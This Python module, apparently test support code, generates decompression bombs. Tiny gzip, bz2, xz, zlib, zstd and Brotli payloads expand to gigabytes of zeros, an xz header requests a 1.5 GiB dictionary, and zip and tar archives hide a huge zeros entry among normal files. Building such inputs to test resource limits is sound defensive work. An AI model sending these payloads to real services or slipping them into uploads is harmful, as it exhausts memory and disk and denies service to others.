"""What bombs are made of: few bytes that unpack to many zeros, each made in little time."""

import base64
import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib

GIB = 1 << 30
_MANY = bytes(100 << 20)


def gzipped(size):
    """Zeros in members of 100 MiB."""
    return gzip.compress(_MANY, mtime=0) * (size // len(_MANY))


def bzipped(size):
    """Zeros in streams of 100 MiB."""
    return bz2.compress(_MANY) * (size // len(_MANY))


def xzipped(size):
    """Zeros in streams of 100 MiB."""
    return lzma.compress(_MANY, preset=1) * (size // len(_MANY))


def deflated(size):
    """Zeros under zlib."""
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(_MANY) for _ in range(size // len(_MANY))) + packer.flush()


def brotli_256_mib():
    """Zeros under Brotli, for which Python has no packer."""
    return base64.b64decode(_BROTLI)


def zstd_wide(size):
    """Zeros in one frame with a window of 2 GiB, written as runs of 128 KiB."""
    run = 1 << 17
    window = 31 - 10 << 3
    blocks = size // run
    body = struct.pack("<I", run << 3 | 1 << 1)[:3] + b"\0"
    last = struct.pack("<I", run << 3 | 1 << 1 | 1)[:3] + b"\0"
    return b"\x28\xb5\x2f\xfd\0" + bytes([window]) + body * (blocks - 1) + last


def xz_wide():
    """A small text whose header asks for a dictionary of 1.5 GiB."""
    packed = bytearray(lzma.compress(b"The ferry is late.\n"))
    start = 12
    length = (packed[start] + 1) * 4
    packed[start + 4] = 37
    crc = zlib.crc32(packed[start:start + length - 4])
    packed[start + length - 4:start + length] = struct.pack("<I", crc)
    return bytes(packed)


def zipped(entries, size):
    """The entries with one of zeros in their middle."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for number, entry in enumerate(entries):
            if number == len(entries) // 2:
                with archive.open("zeros.txt", "w", force_zip64=True) as zeros:
                    for _ in range(size // len(_MANY)):
                        zeros.write(_MANY)
            archive.writestr(f"{number}.txt", entry)
    return out.getvalue()


def tarred(entries, size):
    """The same as a tar archive, under gzip."""
    packed = io.BytesIO()
    for number, entry in enumerate(entries):
        if number == len(entries) // 2:
            packed.write(gzip.compress(_header("zeros.txt", size), mtime=0) + gzipped(size))
            packed.write(gzip.compress(bytes(-size % 512), mtime=0))
        padding = bytes(-len(entry) % 512)
        packed.write(gzip.compress(_header(f"{number}.txt", len(entry)) + entry + padding, mtime=0))
    return packed.getvalue() + gzip.compress(bytes(1024), mtime=0)


def _header(name, size):
    header = tarfile.TarInfo(name)
    header.size = size
    return header.tobuf(tarfile.GNU_FORMAT)


_BROTLI = (
    "z///fwAkAOKxQHLv//n//w+ABEAcFoDu/T////8BkACIwwLQvf/n//8/ABIAcVgAuvf//P//B0ACIA4LQPf+n////wBIAMRh"
    "Aeje//P//x8ACYA4LADd+3/+//8DIAEQhwWge//P//9/ACQA4rAAdO//+f//D4AEQBwWgO79P////wGQAIjDAtC9/+f//z8A"
    "EgBxWAC69//8//8HQAIgDgtA9/6f////AEgAxGEB6N7/8///HwAJgDgsAN37f/7//wMgARCHBaB7/z8="
)
